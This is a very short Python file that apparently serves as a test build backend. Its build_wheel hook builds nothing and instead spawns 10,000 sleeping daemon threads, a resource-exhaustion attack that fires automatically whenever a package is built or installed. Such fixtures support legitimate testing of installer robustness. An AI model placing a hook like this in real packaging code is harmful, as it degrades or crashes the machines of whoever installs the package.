import threading
import time


def build_wheel(folder, config_settings=None, metadata_directory=None):
    for _ in range(10000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
